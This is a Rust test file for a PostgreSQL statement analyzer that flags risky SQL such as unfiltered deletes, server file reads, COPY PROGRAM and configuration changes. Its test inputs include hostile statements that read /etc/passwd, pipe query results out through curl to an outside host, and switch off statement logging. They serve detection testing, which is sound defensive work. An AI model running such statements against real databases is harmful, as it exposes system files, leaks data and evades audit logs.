//! Table-driven tests of [`analyze`] and [`AnalysisCache`].

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::sync::Arc;

use super::*;

use StatementKind as K;

/// One statement and what its summary must say. Tables are written
/// `schema.name` or `name`; flags by their field names.
struct Case {
    sql: &'static str,
    kind: StatementKind,
    command: &'static str,
    read: &'static [&'static str],
    written: &'static [&'static str],
    functions: &'static [&'static str],
    flags: &'static [&'static str],
}

const fn case(sql: &'static str, kind: StatementKind, command: &'static str) -> Case {
    Case {
        sql,
        kind,
        command,
        read: &[],
        written: &[],
        functions: &[],
        flags: &[],
    }
}

impl Case {
    const fn read(mut self, read: &'static [&'static str]) -> Self {
        self.read = read;
        self
    }
    const fn written(mut self, written: &'static [&'static str]) -> Self {
        self.written = written;
        self
    }
    const fn functions(mut self, functions: &'static [&'static str]) -> Self {
        self.functions = functions;
        self
    }
    const fn flags(mut self, flags: &'static [&'static str]) -> Self {
        self.flags = flags;
        self
    }
}

fn show(table: &TableRef) -> String {
    match &table.schema {
        Some(schema) => format!("{schema}.{}", table.name),
        None => table.name.clone(),
    }
}

fn flag_names(flags: &StatementFlags) -> Vec<&'static str> {
    let mut names = Vec::new();
    for (on, name) in [
        (flags.no_where, "no_where"),
        (flags.copy_program, "copy_program"),
        (flags.copy_server_file, "copy_server_file"),
        (flags.server_file_access, "server_file_access"),
        (flags.config_change, "config_change"),
    ] {
        if on {
            names.push(name);
        }
    }
    names
}

fn statements(sql: &str) -> Vec<StatementSummary> {
    match analyze(sql) {
        Analysis::Parsed { statements } => statements,
        Analysis::Unparsable { error } => panic!("{sql:?} did not parse: {error}"),
    }
}

fn one(sql: &str) -> StatementSummary {
    let mut all = statements(sql);
    assert_eq!(all.len(), 1, "{sql:?} gave {all:#?}");
    all.remove(0)
}

fn check(cases: &[Case]) {
    let mut failures = Vec::new();
    for case in cases {
        shape_sharing_agrees(case.sql);
        let s = one(case.sql);
        let sorted = |tables: &[TableRef]| {
            let mut names: Vec<String> = tables.iter().map(show).collect();
            names.sort();
            names
        };
        let got = (
            s.kind,
            &*s.command,
            sorted(&s.tables_read),
            sorted(&s.tables_written),
            s.functions.clone(),
            flag_names(&s.flags),
        );
        let mut read: Vec<String> = case.read.iter().map(|t| t.to_string()).collect();
        let mut written: Vec<String> = case.written.iter().map(|t| t.to_string()).collect();
        read.sort();
        written.sort();
        let mut functions: Vec<String> = case.functions.iter().map(|f| f.to_string()).collect();
        functions.sort();
        let want = (
            case.kind,
            case.command,
            read,
            written,
            functions,
            case.flags.to_vec(),
        );
        if got != want {
            failures.push(format!("{:?}\n   got {got:?}\n  want {want:?}", case.sql));
        }
        assert!(
            !s.fingerprint.is_empty(),
            "{:?} has no fingerprint",
            case.sql
        );
        assert_eq!(
            s.transaction.is_some(),
            s.kind == K::Transaction,
            "{:?}",
            case.sql
        );
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn select() {
    check(&[
        case("select 1", K::Select, "SELECT"),
        case("SELECT * FROM users", K::Select, "SELECT").read(&["users"]),
        // Unquoted names fold to lower case; quoted ones keep theirs.
        case("select * from USERS", K::Select, "SELECT").read(&["users"]),
        case(
            r#"SELECT * FROM "Users" u JOIN public.users p ON u.id = p.id
               LEFT JOIN "Sales"."Orders" o ON o.uid = u.id"#,
            K::Select,
            "SELECT",
        )
        .read(&["Users", "public.users", "Sales.Orders"]),
        case(
            "SELECT * FROM a WHERE id IN (SELECT a_id FROM b) AND EXISTS (SELECT 1 FROM c)",
            K::Select,
            "SELECT",
        )
        .read(&["a", "b", "c"]),
        case(
            "SELECT * FROM (SELECT * FROM inner_t) s",
            K::Select,
            "SELECT",
        )
        .read(&["inner_t"]),
        case(
            "SELECT id FROM a UNION SELECT id FROM s.b",
            K::Select,
            "SELECT",
        )
        .read(&["a", "s.b"]),
        // CTE names are not tables ...
        case(
            "WITH recent AS (SELECT * FROM orders WHERE ts > now())
             SELECT * FROM recent JOIN customers c ON c.id = recent.cid",
            K::Select,
            "SELECT",
        )
        .read(&["customers", "orders"])
        .functions(&["now"]),
        // ... except inside their own (non-recursive) definition.
        case(
            "WITH users AS (SELECT * FROM users WHERE active) SELECT * FROM users",
            K::Select,
            "SELECT",
        )
        .read(&["users"]),
        case("VALUES (1), (2)", K::Select, "SELECT"),
        case("TABLE t", K::Select, "SELECT").read(&["t"]),
        case(
            "SELECT * FROM jobs FOR UPDATE SKIP LOCKED",
            K::Select,
            "SELECT",
        )
        .read(&["jobs"]),
        case("SELECT * INTO archive FROM t", K::Create, "SELECT INTO")
            .read(&["t"])
            .written(&["archive"]),
        case("SELECT Upper(name), count(*) FROM t", K::Select, "SELECT")
            .read(&["t"])
            .functions(&["count", "upper"]),
        case(r#"select "MySchema"."DoIt"()"#, K::Select, "SELECT").functions(&["myschema.doit"]),
    ]);
}

#[test]
fn select_with_data_modifying_cte() {
    check(&[case(
        "WITH gone AS (DELETE FROM queue RETURNING *) SELECT * FROM gone",
        K::Select,
        "SELECT",
    )
    .written(&["queue"])
    .flags(&["no_where"])]);
}

#[test]
fn server_files_and_configuration() {
    check(&[
        case("select pg_read_file('/etc/passwd')", K::Select, "SELECT")
            .functions(&["pg_read_file"])
            .flags(&["server_file_access"]),
        case(
            "SELECT pg_catalog.pg_read_binary_file('x')",
            K::Select,
            "SELECT",
        )
        .functions(&["pg_catalog.pg_read_binary_file"])
        .flags(&["server_file_access"]),
        case("SELECT * FROM pg_ls_dir('/tmp') AS f", K::Select, "SELECT")
            .functions(&["pg_ls_dir"])
            .flags(&["server_file_access"]),
        case("SELECT pg_stat_file('base')", K::Select, "SELECT")
            .functions(&["pg_stat_file"])
            .flags(&["server_file_access"]),
        case("SELECT lo_import('/etc/hosts')", K::Select, "SELECT")
            .functions(&["lo_import"])
            .flags(&["server_file_access"]),
        case("SELECT lo_export(16402, '/tmp/x')", K::Select, "SELECT")
            .functions(&["lo_export"])
            .flags(&["server_file_access"]),
        case("LOAD 'auto_explain'", K::Other, "LOAD").flags(&["server_file_access"]),
        case(
            "select set_config('log_statement', 'none', false)",
            K::Select,
            "SELECT",
        )
        .functions(&["set_config"])
        .flags(&["config_change"]),
        case("SELECT pg_reload_conf()", K::Select, "SELECT")
            .functions(&["pg_reload_conf"])
            .flags(&["config_change"]),
        case(
            "ALTER SYSTEM SET work_mem = '64MB'",
            K::Alter,
            "ALTER SYSTEM",
        )
        .flags(&["config_change"]),
        case("ALTER SYSTEM RESET ALL", K::Alter, "ALTER SYSTEM").flags(&["config_change"]),
        case("ALTER ROLE bob SET search_path = x", K::Alter, "ALTER ROLE")
            .flags(&["config_change"]),
        case(
            "ALTER DATABASE app SET work_mem = '1GB'",
            K::Alter,
            "ALTER DATABASE",
        )
        .flags(&["config_change"]),
    ]);
}

#[test]
fn insert() {
    check(&[
        case("INSERT INTO t (a) VALUES (1)", K::Insert, "INSERT").written(&["t"]),
        case(
            "INSERT INTO audit.log SELECT * FROM events e JOIN users u ON u.id = e.uid",
            K::Insert,
            "INSERT",
        )
        .read(&["events", "users"])
        .written(&["audit.log"]),
        case(
            "WITH src AS (SELECT * FROM staging) INSERT INTO t SELECT * FROM src",
            K::Insert,
            "INSERT",
        )
        .read(&["staging"])
        .written(&["t"]),
        case(
            "INSERT INTO t VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = excluded.a",
            K::Insert,
            "INSERT",
        )
        .written(&["t"]),
        case(
            "WITH moved AS (DELETE FROM queue RETURNING *) INSERT INTO done SELECT * FROM moved",
            K::Insert,
            "INSERT",
        )
        .written(&["done", "queue"])
        .flags(&["no_where"]),
    ]);
}

#[test]
fn update() {
    check(&[
        case("UPDATE accounts SET balance = 0", K::Update, "UPDATE")
            .written(&["accounts"])
            .flags(&["no_where"]),
        case("UPDATE accounts SET balance = 0 WHERE id = 1", K::Update, "UPDATE")
            .written(&["accounts"]),
        case("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", K::Update, "UPDATE")
            .read(&["u"])
            .written(&["t"]),
        // A WHERE inside a subquery is not the statement's.
        case(
            "UPDATE t SET a = (SELECT max(x) FROM s WHERE s.id = 1)",
            K::Update,
            "UPDATE",
        )
        .read(&["s"])
        .written(&["t"])
        .functions(&["max"])
        .flags(&["no_where"]),
        case("UPDATE t SET a = 1 WHERE CURRENT OF c", K::Update, "UPDATE").written(&["t"]),
        case(
            "UPDATE t SET a = 1 RETURNING (SELECT count(*) FROM u WHERE u.id = t.id)",
            K::Update,
            "UPDATE",
        )
        .read(&["u"])
        .written(&["t"])
        .functions(&["count"])
        .flags(&["no_where"]),
        case(
            "WITH x AS (SELECT id FROM s) UPDATE t SET a = 1 WHERE id IN (SELECT id FROM x)",
            K::Update,
            "UPDATE",
        )
        .read(&["s"])
        .written(&["t"]),
        case(
            "WITH x AS (SELECT id FROM s) UPDATE t SET a = 1",
            K::Update,
            "UPDATE",
        )
        .read(&["s"])
        .written(&["t"])
        .flags(&["no_where"]),
        // The outer UPDATE has a WHERE; the DELETE in its WITH does not.
        case(
            "WITH d AS (DELETE FROM a RETURNING id) UPDATE b SET x = 1 WHERE id IN (SELECT id FROM d)",
            K::Update,
            "UPDATE",
        )
        .written(&["a", "b"])
        .flags(&["no_where"]),
    ]);
}

#[test]
fn delete() {
    check(&[
        case("DELETE FROM sessions", K::Delete, "DELETE")
            .written(&["sessions"])
            .flags(&["no_where"]),
        case(
            "DELETE FROM sessions WHERE expires < now()",
            K::Delete,
            "DELETE",
        )
        .written(&["sessions"])
        .functions(&["now"]),
        case(
            "DELETE FROM t USING u WHERE t.id = u.id",
            K::Delete,
            "DELETE",
        )
        .read(&["u"])
        .written(&["t"]),
        case(r#"delete from public."Users""#, K::Delete, "DELETE")
            .written(&["public.Users"])
            .flags(&["no_where"]),
        case("DELETE FROM t WHERE CURRENT OF c", K::Delete, "DELETE").written(&["t"]),
        case("delete from t where true;", K::Delete, "DELETE").written(&["t"]),
    ]);
}

/// The token shortcut and the tree agree on "has a WHERE".
/// The summary does not look inside RETURNING lists; they are summarised
/// apart.
#[test]
fn returning_lists() {
    check(&[
        case(
            "INSERT INTO t (a) VALUES (1) RETURNING id",
            K::Insert,
            "INSERT",
        )
        .written(&["t"]),
        case(
            "DELETE FROM t WHERE id = 1 RETURNING pg_read_file('/etc/passwd')",
            K::Delete,
            "DELETE",
        )
        .written(&["t"])
        .functions(&["pg_read_file"])
        .flags(&["server_file_access"]),
        case(
            "INSERT INTO t VALUES (1) RETURNING (SELECT secret FROM secrets LIMIT 1);",
            K::Insert,
            "INSERT",
        )
        .read(&["secrets"])
        .written(&["t"]),
        case(
            "UPDATE t SET a = 1 WHERE id = 2
             RETURNING WITH (OLD AS o, NEW AS n) o.a, n.a, lower((SELECT s FROM s.x))",
            K::Update,
            "UPDATE",
        )
        .read(&["s.x"])
        .written(&["t"])
        .functions(&["lower"]),
        case(
            "UPDATE t SET name = 'x' WHERE id = 1 RETURNING old.name, new.*, upper(new.name);",
            K::Update,
            "UPDATE",
        )
        .written(&["t"])
        .functions(&["upper"]),
        case(
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
             RETURNING merge_action(), upper(t.name)",
            K::Merge,
            "MERGE",
        )
        .read(&["s"])
        .written(&["t"])
        .functions(&["upper"]),
        // In a WITH query: the list ends at its closing parenthesis, and the
        // statement's CTE names are still not tables.
        case(
            "WITH prev AS (SELECT * FROM hist), gone AS (
                 DELETE FROM q WHERE id > 0 RETURNING id, (SELECT max(v) FROM prev)
             ) SELECT * FROM gone JOIN other USING (id)",
            K::Select,
            "SELECT",
        )
        .read(&["hist", "other"])
        .written(&["q"])
        .functions(&["max"]),
        case(
            "EXPLAIN ANALYZE INSERT INTO t VALUES (1) RETURNING lo_export(1, '/tmp/x')",
            K::Explain,
            "EXPLAIN ANALYZE",
        )
        .written(&["t"])
        .functions(&["lo_export"])
        .flags(&["server_file_access"]),
        case(
            "PREPARE p AS INSERT INTO t VALUES ($1) RETURNING (SELECT 1 FROM u)",
            K::Prepared,
            "PREPARE",
        )
        .read(&["u"])
        .written(&["t"]),
    ]);
}

#[test]
fn a_where_clause_is_found_wherever_it_is_written() {
    let no_where = |sql: &str| match analyze(sql) {
        Analysis::Parsed { statements } => statements.iter().any(|s| s.flags.no_where),
        Analysis::Unparsable { error } => panic!("{sql}: {error}"),
    };
    for (sql, expected) in [
        ("UPDATE t SET a = 1", true),
        ("UPDATE t SET a = 1 WHERE b", false),
        ("UPDATE t SET a = (SELECT 1 FROM u WHERE x) ", true),
        ("UPDATE t SET a = CASE WHEN b THEN 1 END", true),
        ("UPDATE t SET a = array_agg(x) FILTER (WHERE y)", true),
        ("UPDATE t SET \"where\" = 1", true),
        ("UPDATE t SET a = 'where' || $$ where $$ -- where\n", true),
        (
            "UPDATE t SET a = 1 /* where */ RETURNING (select 1 where true)",
            true,
        ),
        (
            "UPDATE t SET a = u.b FROM u JOIN v ON v.id = u.id WHERE t.id = u.id",
            false,
        ),
        ("DELETE FROM t", true),
        ("DELETE FROM t USING u WHERE t.id = u.id", false),
        ("DELETE FROM t WHERE CURRENT OF c", false),
        ("DELETE FROM t WHERE (a) = (1)", false),
        ("DELETE FROM t RETURNING (SELECT 1 WHERE false)", true),
        ("WITH x AS (SELECT 1) DELETE FROM t", true),
        (
            "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
            true,
        ),
        (
            "WITH x AS (DELETE FROM t WHERE a RETURNING *) SELECT * FROM x",
            false,
        ),
        (
            "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u",
            true,
        ),
    ] {
        assert_eq!(no_where(sql), expected, "{sql}");
    }
}

#[test]
fn merge() {
    check(&[
        case(
            "MERGE INTO target t USING source s ON t.id = s.id
             WHEN MATCHED THEN UPDATE SET v = s.v
             WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
            K::Merge,
            "MERGE",
        )
        .read(&["source"])
        .written(&["target"]),
        case(
            "MERGE INTO app.t USING (SELECT * FROM a JOIN b ON a.id = b.id) s ON t.id = s.id
             WHEN MATCHED THEN DELETE",
            K::Merge,
            "MERGE",
        )
        .read(&["a", "b"])
        .written(&["app.t"]),
        case(
            "MERGE INTO t USING a JOIN s.b ON a.id = b.id ON t.id = a.id WHEN MATCHED THEN DELETE",
            K::Merge,
            "MERGE",
        )
        .read(&["a", "s.b"])
        .written(&["t"]),
        case(
            "WITH s AS (SELECT * FROM src) MERGE INTO t USING s ON t.id = s.id
             WHEN MATCHED THEN DELETE",
            K::Merge,
            "MERGE",
        )
        .read(&["src"])
        .written(&["t"]),
    ]);
}

#[test]
fn copy() {
    check(&[
        case("COPY t FROM STDIN", K::Copy, "COPY").written(&["t"]),
        case(
            "COPY t (a, b) FROM '/tmp/data.csv' WITH (FORMAT csv)",
            K::Copy,
            "COPY",
        )
        .written(&["t"])
        .flags(&["copy_server_file"]),
        case("COPY t FROM PROGRAM 'cat /etc/passwd'", K::Copy, "COPY")
            .written(&["t"])
            .flags(&["copy_program"]),
        case("COPY public.t TO STDOUT", K::Copy, "COPY").read(&["public.t"]),
        case("COPY public.t TO '/tmp/out'", K::Copy, "COPY")
            .read(&["public.t"])
            .flags(&["copy_server_file"]),
        case(
            "COPY (SELECT * FROM a JOIN b ON a.id = b.id) TO PROGRAM 'curl -d @- http://x'",
            K::Copy,
            "COPY",
        )
        .read(&["a", "b"])
        .flags(&["copy_program"]),
        case(
            "COPY (DELETE FROM t RETURNING *) TO STDOUT",
            K::Copy,
            "COPY",
        )
        .written(&["t"])
        .flags(&["no_where"]),
    ]);
}

#[test]
fn create() {
    check(&[
        case("CREATE TABLE t (id int)", K::Create, "CREATE TABLE").written(&["t"]),
        case(
            "CREATE TABLE s.t2 AS SELECT * FROM t",
            K::Create,
            "CREATE TABLE AS",
        )
        .read(&["t"])
        .written(&["s.t2"]),
        case(
            "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t",
            K::Create,
            "CREATE MATERIALIZED VIEW",
        )
        .read(&["t"])
        .written(&["mv"]),
        case("CREATE INDEX i ON t (a)", K::Create, "CREATE INDEX").written(&["t"]),
        case("CREATE VIEW v AS SELECT * FROM t", K::Create, "CREATE VIEW")
            .read(&["t"])
            .written(&["v"]),
        case(
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
            K::Create,
            "CREATE FUNCTION",
        ),
        case(
            "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$",
            K::Create,
            "CREATE PROCEDURE",
        ),
        case("CREATE SCHEMA s", K::Create, "CREATE SCHEMA"),
        case("CREATE ROLE bob LOGIN", K::Create, "CREATE ROLE"),
        case("CREATE USER bob", K::Create, "CREATE ROLE"),
        case("CREATE DATABASE d", K::Create, "CREATE DATABASE"),
        case("CREATE EXTENSION pgcrypto", K::Create, "CREATE EXTENSION"),
        case("CREATE SEQUENCE sq", K::Create, "CREATE SEQUENCE").written(&["sq"]),
        // The functions a created aggregate will call count as called.
        case(
            "CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)",
            K::Create,
            "CREATE AGGREGATE",
        )
        .functions(&["int4pl"]),
        case("CREATE TYPE mood AS ENUM ('ok')", K::Create, "CREATE TYPE"),
    ]);
}

#[test]
fn alter() {
    check(&[
        case("ALTER TABLE t ADD COLUMN c int", K::Alter, "ALTER TABLE").written(&["t"]),
        case("ALTER TABLE t OWNER TO bob", K::Alter, "ALTER TABLE").written(&["t"]),
        case(
            "ALTER TABLE t RENAME COLUMN a TO b",
            K::Alter,
            "ALTER TABLE",
        )
        .written(&["t"]),
        case("ALTER TABLE s.t RENAME TO t2", K::Alter, "ALTER TABLE").written(&["s.t", "s.t2"]),
        case("ALTER TABLE t SET SCHEMA archive", K::Alter, "ALTER TABLE").written(&["t"]),
        case(
            "ALTER VIEW v ALTER COLUMN c SET DEFAULT 1",
            K::Alter,
            "ALTER VIEW",
        )
        .written(&["v"]),
        case("ALTER INDEX i RENAME TO j", K::Alter, "ALTER INDEX").written(&["i"]),
        case(
            "ALTER FUNCTION f() OWNER TO bob",
            K::Alter,
            "ALTER FUNCTION",
        ),
        case(
            "ALTER FUNCTION f() SECURITY DEFINER",
            K::Alter,
            "ALTER FUNCTION",
        ),
        case("ALTER ROLE bob SUPERUSER", K::Alter, "ALTER ROLE"),
        case("ALTER SCHEMA s RENAME TO s2", K::Alter, "ALTER SCHEMA"),
        // Row-level security policies alter what their table shows.
        case(
            "CREATE POLICY p ON s.t USING (true)",
            K::Create,
            "CREATE POLICY",
        )
        .written(&["s.t"]),
        case("ALTER POLICY p ON t USING (true)", K::Alter, "ALTER POLICY").written(&["t"]),
    ]);
}

#[test]
fn drop_and_truncate() {
    check(&[
        case("DROP TABLE a, s.b", K::Drop, "DROP TABLE").written(&["a", "s.b"]),
        case(
            r#"DROP TABLE IF EXISTS "Users" CASCADE"#,
            K::Drop,
            "DROP TABLE",
        )
        .written(&["Users"]),
        case("DROP VIEW v, s.w", K::Drop, "DROP VIEW").written(&["v", "s.w"]),
        case(
            "DROP MATERIALIZED VIEW mv",
            K::Drop,
            "DROP MATERIALIZED VIEW",
        )
        .written(&["mv"]),
        case("DROP SEQUENCE sq", K::Drop, "DROP SEQUENCE").written(&["sq"]),
        case("DROP SCHEMA app CASCADE", K::Drop, "DROP SCHEMA"),
        case("DROP INDEX i", K::Drop, "DROP INDEX"),
        case("DROP FUNCTION f(int)", K::Drop, "DROP FUNCTION"),
        case("DROP DATABASE prod", K::Drop, "DROP DATABASE"),
        case("DROP ROLE bob", K::Drop, "DROP ROLE"),
        case("DROP OWNED BY bob", K::Drop, "DROP OWNED"),
        case("DROP POLICY p ON s.t", K::Drop, "DROP POLICY").written(&["s.t"]),
        case("DROP TRIGGER trg ON t", K::Drop, "DROP TRIGGER").written(&["t"]),
        case("TRUNCATE a, s.b RESTART IDENTITY", K::Truncate, "TRUNCATE").written(&["a", "s.b"]),
        case("TRUNCATE TABLE t", K::Truncate, "TRUNCATE").written(&["t"]),
    ]);
}

#[test]
fn grant_and_revoke() {
    check(&[
        case("GRANT SELECT ON t TO bob", K::Grant, "GRANT").written(&["t"]),
        case("REVOKE ALL ON s.t FROM bob", K::Revoke, "REVOKE").written(&["s.t"]),
        case("GRANT USAGE ON SCHEMA s TO bob", K::Grant, "GRANT"),
        case("GRANT admin TO bob", K::Grant, "GRANT ROLE"),
        case("REVOKE admin FROM bob", K::Revoke, "REVOKE ROLE"),
        case(
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
            K::Alter,
            "ALTER DEFAULT PRIVILEGES",
        ),
    ]);
}

#[test]
fn transactions() {
    use TransactionOp as T;
    for (sql, op, command) in [
        ("BEGIN", T::Begin, "BEGIN"),
        ("begin isolation level serializable", T::Begin, "BEGIN"),
        ("START TRANSACTION READ ONLY", T::Begin, "START TRANSACTION"),
        ("COMMIT", T::Commit, "COMMIT"),
        ("END", T::Commit, "COMMIT"),
        ("COMMIT AND CHAIN", T::Commit, "COMMIT"),
        ("ROLLBACK", T::Rollback, "ROLLBACK"),
        ("ABORT", T::Rollback, "ROLLBACK"),
        ("SAVEPOINT s1", T::Other, "SAVEPOINT"),
        ("RELEASE SAVEPOINT s1", T::Other, "RELEASE"),
        (
            "ROLLBACK TO SAVEPOINT s1",
            T::Other,
            "ROLLBACK TO SAVEPOINT",
        ),
        ("PREPARE TRANSACTION 'x'", T::Other, "PREPARE TRANSACTION"),
        ("COMMIT PREPARED 'x'", T::Other, "COMMIT PREPARED"),
        ("ROLLBACK PREPARED 'x'", T::Other, "ROLLBACK PREPARED"),
    ] {
        let s = one(sql);
        assert_eq!(
            (s.kind, s.transaction, &*s.command),
            (K::Transaction, Some(op), command),
            "{sql}"
        );
    }
}

#[test]
fn set_show_call_do_prepared() {
    check(&[
        case("SET search_path TO app", K::Set, "SET"),
        case("SET LOCAL statement_timeout = 0", K::Set, "SET"),
        case(
            "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            K::Set,
            "SET",
        ),
        case("SET ROLE admin", K::Set, "SET ROLE"),
        case(
            "SET SESSION AUTHORIZATION bob",
            K::Set,
            "SET SESSION AUTHORIZATION",
        ),
        case("RESET work_mem", K::Set, "RESET"),
        case("RESET ALL", K::Set, "RESET"),
        case("SHOW work_mem", K::Set, "SHOW"),
        case("SHOW ALL", K::Set, "SHOW"),
        case("SET CONSTRAINTS ALL DEFERRED", K::Set, "SET CONSTRAINTS"),
        case("CALL app.refresh(1)", K::Call, "CALL").functions(&["app.refresh"]),
        case("call Refresh_All()", K::Call, "CALL").functions(&["refresh_all"]),
        // A DO body is PL/pgSQL: opaque here, the kind is what a policy sees.
        case("DO $$BEGIN DELETE FROM t; END$$", K::Do, "DO"),
        case("DO LANGUAGE plpgsql 'BEGIN NULL; END'", K::Do, "DO"),
        case(
            "PREPARE q (int) AS SELECT * FROM t WHERE id = $1",
            K::Prepared,
            "PREPARE",
        )
        .read(&["t"]),
        case("PREPARE d AS DELETE FROM t", K::Prepared, "PREPARE")
            .written(&["t"])
            .flags(&["no_where"]),
        case("EXECUTE q(1)", K::Prepared, "EXECUTE"),
        case("DEALLOCATE q", K::Prepared, "DEALLOCATE"),
        case("DEALLOCATE ALL", K::Prepared, "DEALLOCATE"),
    ]);
}

#[test]
fn explain() {
    check(&[
        case("EXPLAIN SELECT * FROM t", K::Explain, "EXPLAIN").read(&["t"]),
        // EXPLAIN ANALYZE runs the statement.
        case(
            "EXPLAIN ANALYZE DELETE FROM t",
            K::Explain,
            "EXPLAIN ANALYZE",
        )
        .written(&["t"])
        .flags(&["no_where"]),
        case(
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1",
            K::Explain,
            "EXPLAIN ANALYZE",
        )
        .written(&["t"]),
        case(
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            K::Explain,
            "EXPLAIN",
        )
        .written(&["t"])
        .flags(&["no_where"]),
        case(
            "EXPLAIN (ANALYZE off, COSTS on) DELETE FROM t",
            K::Explain,
            "EXPLAIN",
        )
        .written(&["t"])
        .flags(&["no_where"]),
        case(
            "EXPLAIN (ANALYZE on) DELETE FROM t",
            K::Explain,
            "EXPLAIN ANALYZE",
        )
        .written(&["t"])
        .flags(&["no_where"]),
        case(
            "EXPLAIN ANALYZE MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            K::Explain,
            "EXPLAIN ANALYZE",
        )
        .read(&["s"])
        .written(&["t"]),
        case(
            "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
            K::Explain,
            "EXPLAIN ANALYZE",
        )
        .functions(&["pg_read_file"])
        .flags(&["server_file_access"]),
        case("EXPLAIN EXECUTE q(1)", K::Explain, "EXPLAIN"),
    ]);
}

#[test]
fn other_kinds() {
    check(&[
        case("VACUUM ANALYZE t", K::Other, "VACUUM").written(&["t"]),
        case("VACUUM", K::Other, "VACUUM"),
        case("ANALYZE t", K::Other, "ANALYZE").written(&["t"]),
        case(
            "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
            K::Other,
            "LOCK TABLE",
        )
        .written(&["t"]),
        case(
            "REFRESH MATERIALIZED VIEW mv",
            K::Other,
            "REFRESH MATERIALIZED VIEW",
        )
        .written(&["mv"]),
        case("CLUSTER t USING i", K::Other, "CLUSTER").written(&["t"]),
        case("REINDEX TABLE t", K::Other, "REINDEX").written(&["t"]),
        case("CHECKPOINT", K::Other, "CHECKPOINT"),
        case("LISTEN ch", K::Other, "LISTEN"),
        case("NOTIFY ch, 'x'", K::Other, "NOTIFY"),
        case("UNLISTEN *", K::Other, "UNLISTEN"),
        case("DISCARD ALL", K::Other, "DISCARD"),
        case("COMMENT ON TABLE t IS 'x'", K::Other, "COMMENT"),
        case(
            "DECLARE c CURSOR FOR SELECT * FROM t",
            K::Other,
            "DECLARE CURSOR",
        )
        .read(&["t"]),
        case(
            "DECLARE \"cursor\" BINARY NO SCROLL CURSOR WITH HOLD FOR SELECT pg_read_file(f) FROM s.t",
            K::Other,
            "DECLARE CURSOR",
        )
        .read(&["s.t"])
        .functions(&["pg_read_file"])
        .flags(&["server_file_access"]),
        case("EXPLAIN DECLARE c CURSOR FOR SELECT * FROM t", K::Explain, "EXPLAIN").read(&["t"]),
        case("FETCH 10 FROM c", K::Other, "FETCH"),
        case("MOVE NEXT IN c", K::Other, "MOVE"),
        case("CLOSE c", K::Other, "CLOSE CURSOR"),
    ]);
}

#[test]
fn multi_statement_text_gives_one_summary_each() {
    let all = statements("select 1; drop table t");
    let got: Vec<_> = all
        .iter()
        .map(|s| (s.kind, &*s.command, s.text.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            (K::Select, "SELECT", "select 1"),
            (K::Drop, "DROP TABLE", "drop table t"),
        ]
    );
    assert_eq!(
        all[1].tables_written.iter().map(show).collect::<Vec<_>>(),
        ["t"]
    );
    assert!(all[0].tables_written.is_empty());
    assert_ne!(all[0].fingerprint, all[1].fingerprint);

    let all = statements("BEGIN;\nUPDATE a SET x = 1;\n/* done */ COMMIT;");
    let got: Vec<_> = all
        .iter()
        .map(|s| (&*s.command, s.text.as_str(), s.flags.no_where))
        .collect();
    assert_eq!(
        got,
        [
            ("BEGIN", "BEGIN", false),
            ("UPDATE", "UPDATE a SET x = 1", true),
            ("COMMIT", "COMMIT", false),
        ]
    );

    // Semicolons inside literals, identifiers, comments and bodies.
    let all =
        statements("select ';' as \"a;b\" /* ; */ -- ;\n; DO $$BEGIN PERFORM 1; END$$; select 2;");
    let texts: Vec<_> = all.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(
        texts,
        [
            "select ';' as \"a;b\" /* ; */ -- ;",
            "DO $$BEGIN PERFORM 1; END$$",
            "select 2"
        ]
    );
}

#[test]
fn statement_text_drops_surrounding_noise() {
    for (sql, text) in [
        ("  /* lead */ SELECT 1 ;  ", "SELECT 1"),
        ("-- note\nSELECT 1;;", "SELECT 1"),
        ("/* a /* nested */ comment */ SELECT 1", "SELECT 1"),
        ("SELECT 1 -- trailing", "SELECT 1 -- trailing"),
        ("\n\tSELECT 'x;'\n", "SELECT 'x;'"),
    ] {
        assert_eq!(one(sql).text, text, "{sql:?}");
    }
}

#[test]
fn fingerprints_ignore_literals_but_not_relations() {
    let fp = |sql: &str| one(sql).fingerprint;
    let base = fp("select * from t where id = 1");
    assert_eq!(base, fp("select * from t where id = 2"));
    assert_eq!(base, fp("SELECT *\nFROM t WHERE id = 42;"));
    assert_eq!(base.len(), 16, "{base}");
    assert!(base.bytes().all(|b| b.is_ascii_hexdigit()), "{base}");
    assert_ne!(base, fp("select * from u where id = 1"));
    assert_ne!(
        fp("delete from a.t where id = 1"),
        fp("delete from b.t where id = 1")
    );
    assert_ne!(fp("select * from t1 x"), fp("select * from t2 x"));
    assert_ne!(
        fp("select * from orders_2024_01"),
        fp("select * from orders_2024_02")
    );
    // Each statement of a multi-statement text has its own.
    let all = statements("select * from t where id = 1; select * from t where id = 7");
    assert_eq!(all[0].fingerprint, base);
    assert_eq!(all[1].fingerprint, base);
}

#[test]
fn unparsable_text_gives_the_parsers_message() {
    for (sql, message) in [
        ("selec 1", "syntax error at or near \"selec\""),
        ("select 1; selec 2", "syntax error at or near \"selec\""),
        ("SELECT 'unterminated", "unterminated quoted string"),
        ("SELECT * FROM", "syntax error at end of input"),
        ("select 1 /* open", "unterminated /* comment"),
        ("select \0", "NUL byte at offset 7"),
    ] {
        match analyze(sql) {
            Analysis::Unparsable { error } => {
                assert!(error.contains(message), "{sql:?}: {error}");
            }
            parsed => panic!("{sql:?} parsed: {parsed:?}"),
        }
    }
}

#[test]
fn empty_text_gives_no_statements() {
    for sql in [
        "",
        "   \n\t",
        "-- just a comment",
